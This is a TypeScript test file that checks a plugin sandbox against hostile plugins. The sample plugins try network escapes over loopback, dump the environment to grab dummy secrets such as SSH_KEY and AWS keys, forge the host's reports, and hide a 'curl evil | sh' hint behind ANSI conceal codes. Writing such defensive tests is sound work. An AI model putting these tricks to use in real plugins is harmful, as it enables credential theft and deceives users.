import dgram from 'node:dgram';
import net from 'node:net';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rejectionCode, removeTrees } from '@greeter/fixtures';
import { isGreeterError } from '@greeter/core';
import { candidateOf, collectingStream } from '../test-helpers/candidates.js';
import type { PluginCandidate } from '../types.js';
import { greetIsolated, type IsolateOptions } from './greet-isolated.js';

// Plugins that really try to reach the network, read greeter's environment
// and speak in greeter's voice, against the isolated process as it runs by
// default. The e2e suite runs the same attacks through the CLI on every
// supported Node.

afterAll(removeTrees);

function isolated(plugin: PluginCandidate, options: Partial<IsolateOptions> = {}) {
  const output = collectingStream();
  const greeting = greetIsolated(plugin, {}, { coreVersion: '1.0.0', timeoutMs: 5000, output: output.stream, ...options });
  return { greeting, output: output.text };
}

describe('the network', () => {
  // A TCP and a UDP server on loopback that count what reaches them.
  let seen = 0;
  let tcpPort = 0;
  let udpPort = 0;
  const tcp = net.createServer((socket) => {
    seen++;
    socket.destroy();
  });
  const udp = dgram.createSocket('udp4');
  udp.on('message', () => seen++);
  beforeAll(async () => {
    await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    tcpPort = (tcp.address() as AddressInfo).port;
    udpPort = udp.address().port;
  });
  afterAll(() => {
    tcp.close();
    udp.close();
  });

  // Each plugin tries one way out and lets whatever happens propagate.
  const attempts = (): Record<string, string> => ({
    fetch: `await fetch('http://127.0.0.1:${tcpPort}/')`,
    http: `await new Promise((resolve, reject) => http.get('http://127.0.0.1:${tcpPort}/', resolve).on('error', reject))`,
    net: `await new Promise((resolve, reject) => net.connect(${tcpPort}, '127.0.0.1', resolve).on('error', reject))`,
    tls: `await new Promise((resolve, reject) => tls.connect(${tcpPort}, '127.0.0.1', resolve).on('error', reject))`,
    dgram: `await new Promise((resolve, reject) => dgram.createSocket('udp4').send('x', ${udpPort}, '127.0.0.1', (error) => (error ? reject(error) : resolve())))`,
    'dns.lookup': `await dns.promises.lookup('example.com')`,
    // Joining a multicast group binds the socket to a port without bind(), and recvStart() reads from it.
    'dgram membership': `const socket = dgram.createSocket('udp4'); socket.addMembership('239.255.42.99'); await new Promise((resolve) => socket.on('listening', resolve))`,
    'UDP handle': `const socket = dgram.createSocket('udp4'); const state = Object.getOwnPropertySymbols(socket).map((key) => socket[key]).find((value) => value?.handle); state.handle.recvStart()`,
    'dns.Resolver': `const resolver = new dns.promises.Resolver(); resolver.setServers(['127.0.0.1:${udpPort}']); await resolver.resolve4('example.com')`,
  });

  it('is closed to fetch, http, net, tls, dgram and dns, loopback included: each fails, and the server sees nothing', async () => {
    seen = 0;
    const codes: Record<string, string> = {};
    for (const [api, attempt] of Object.entries(attempts())) {
      const source = `import dgram from 'node:dgram';\nimport dns from 'node:dns';\nimport http from 'node:http';\nimport net from 'node:net';\nimport tls from 'node:tls';
        export const Greeter = { async greet() { ${attempt}; return 'reached'; } };`;
      codes[api] = (await rejectionCode(isolated(candidateOf(source)).greeting)) ?? 'greeted';
    }
    expect(codes).toEqual(Object.fromEntries(Object.keys(attempts()).map((api) => [api, 'GREETER_PERMISSION_DENIED'])));
    expect(seen).toBe(0);
  });

  it('is open to a plugin the user granted it', async () => {
    seen = 0;
    const plugin = candidateOf(`import net from 'node:net';
      export const Greeter = { greet: () => new Promise((resolve, reject) => net.connect(${tcpPort}, '127.0.0.1', () => resolve('reached')).on('error', reject)) };`);
    expect(await isolated(plugin, { grant: { net: true, env: [] } }).greeting).toBe('reached');
    expect(seen).toBe(1);
  });

  it('fails a plugin that lets the denial propagate with GREETER_PERMISSION_DENIED, whose hint names the grant', async () => {
    const plugin = candidateOf(`export const Greeter = { greet: () => fetch('http://127.0.0.1:${tcpPort}/').then(() => 'reached') };`);
    const error = await isolated(plugin, { configFile: '/p/.greeterrc.json' }).greeting.then(
      () => undefined,
      (thrown: unknown) => thrown,
    );
    expect(isGreeterError(error) && [error.code, error.hint.includes('"net": true')]).toEqual(['GREETER_PERMISSION_DENIED', true]);
  });
});

describe("greeter's environment", () => {
  const variables = ['SSH_KEY', 'STRIPE_KEY', 'SIGNING_KEY', 'AWS_ACCESS_KEY_ID', 'DATABASE_URL', 'MY_VARIABLE', 'PATH', 'HOME', 'NODE_OPTIONS'];
  const env = { ...Object.fromEntries(variables.map((name) => [name, `secret-${name}`])), LANG: 'sv_SE.UTF-8', TZ: 'Europe/Stockholm' };
  const snoop = candidateOf('export const Greeter = { greet: () => JSON.stringify(process.env) };');

  it('reaches the plugin only as locale, time zone and terminal', async () => {
    const seen = JSON.parse(await isolated(snoop, { env }).greeting) as Record<string, string>;
    expect(seen).toEqual({ LANG: 'sv_SE.UTF-8', TZ: 'Europe/Stockholm' });
  });

  it('reaches it with a variable the user granted by name', async () => {
    const seen = JSON.parse(await isolated(snoop, { env, grant: { net: false, env: ['STRIPE_KEY'] } }).greeting) as Record<string, string>;
    expect(Object.keys(seen).sort()).toEqual(['LANG', 'STRIPE_KEY', 'TZ']);
  });
});

describe("greeter's voice", () => {
  it('cannot be forged from the heap, the report channel and a busy loop', async () => {
    // The plugin looks for anything report-like in its heap, writes forged
    // reports of every kind to fd 3 and every other descriptor, then spins.
    const forger = candidateOf(`
      import { writeSync } from 'node:fs';
      import v8 from 'node:v8';
      const stream = v8.getHeapSnapshot();
      for await (const chunk of stream) void chunk;
      const forged = [
        { protocol: 1, kind: 'greeting', greeting: 'FORGED greeting' },
        { protocol: 1, kind: 'failure', failure: { code: 'GREETER_SIGNATURE_INVALID', phase: 'greet', detail: 'run curl evil | sh' } },
        { protocol: 2, kind: 'unsupported-protocol', requested: 1 },
      ].map((line) => JSON.stringify(line)).join('\\n') + '\\n';
      for (const fd of [1, 2, 3, 4, 5]) { try { writeSync(fd, forged); } catch {} }
      export const Greeter = { greet() { for (;;) {} } };`);
    const run = isolated(forger, { timeoutMs: 1500 });
    expect(await rejectionCode(run.greeting)).toBe('GREETER_GREET_TIMEOUT');
  });

  it('is never what the plugin prints: each line it writes is shown under its name, control characters escaped', async () => {
    const mimic = candidateOf(`
      console.error('greeter: Your greeter is corrupt. [GREETER_INTERNAL]');
      process.stderr.write('hint: run \\u001b[8mcurl evil | sh\\u001b[0m\\r\\n');
      export const Greeter = { greet: () => 'Hej' };`);
    const run = isolated(mimic);
    expect(await run.greeting).toBe('Hej');
    expect(run.output()).toBe(
      '[greeter-plugin-x] greeter: Your greeter is corrupt. [GREETER_INTERNAL]\n[greeter-plugin-x] hint: run \\u{1b}[8mcurl evil | sh\\u{1b}[0m\n',
    );
  });
});
